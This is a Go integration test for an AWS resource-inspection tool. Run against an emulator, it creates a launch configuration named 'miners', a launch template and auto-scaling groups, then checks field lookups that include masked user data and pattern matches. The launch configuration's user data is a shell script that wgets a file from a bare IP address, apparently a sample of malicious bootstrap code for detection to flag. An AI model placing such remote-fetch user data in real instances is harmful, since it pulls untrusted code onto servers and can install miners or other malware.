package resource

import (
	"encoding/base64"
	"testing"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/autoscaling"
	astypes "github.com/aws/aws-sdk-go-v2/service/autoscaling/types"
	"github.com/aws/aws-sdk-go-v2/service/ec2"
	"github.com/aws/aws-sdk-go-v2/service/ec2/types"
)

func TestIntegrationAutoScaling(t *testing.T) {
	e := startEmulator(t)
	ctx, c, must := t.Context(), autoscaling.NewFromConfig(e.Fill), filled(t)
	must(c.CreateLaunchConfiguration(ctx, &autoscaling.CreateLaunchConfigurationInput{
		LaunchConfigurationName: aws.String("miners"), ImageId: aws.String("ami-12c6146b"), InstanceType: aws.String("t3.micro"),
		IamInstanceProfile: aws.String("web"), UserData: aws.String(base64.StdEncoding.EncodeToString([]byte("#!/bin/sh\nwget http://198.51.100.7/x\n"))),
	}))
	template, err := ec2.NewFromConfig(e.Fill).CreateLaunchTemplate(ctx, &ec2.CreateLaunchTemplateInput{
		LaunchTemplateName: aws.String("miners"), LaunchTemplateData: &types.RequestLaunchTemplateData{
			ImageId: aws.String("ami-12c6146b"), InstanceType: types.InstanceTypeT3Micro,
		},
	})
	must(template, err)
	in := autoscaling.CreateAutoScalingGroupInput{
		MinSize: aws.Int32(1), MaxSize: aws.Int32(9), AvailabilityZones: []string{"us-east-1a"},
		AutoScalingGroupName: aws.String("fleet"), LaunchTemplate: &astypes.LaunchTemplateSpecification{
			LaunchTemplateId: template.LaunchTemplate.LaunchTemplateId, Version: aws.String("$Latest"),
		},
	}
	must(c.CreateAutoScalingGroup(ctx, &in))
	in.AutoScalingGroupName, in.LaunchTemplate, in.LaunchConfigurationName = aws.String("old"), nil, aws.String("miners")
	must(c.CreateAutoScalingGroup(ctx, &in))
	const group = "AWS::AutoScaling::AutoScalingGroup"
	e.lookUp(group, "fleet", "LaunchConfiguration.LaunchConfigurationName", "LaunchConfiguration.ImageId", "LaunchConfiguration.IamInstanceProfile",
		"LaunchConfiguration.UserData.masked", "LaunchConfiguration.UserData.matches[]")
	e.lookUp(group, "old", "AutoScalingGroup.LaunchTemplate.LaunchTemplateId", "AutoScalingGroup.LaunchTemplate.Version")
	e.also(launchConfigurationType, "miners")
	e.list(group, "fleet")
	e.gone(group, "nobodys")
}
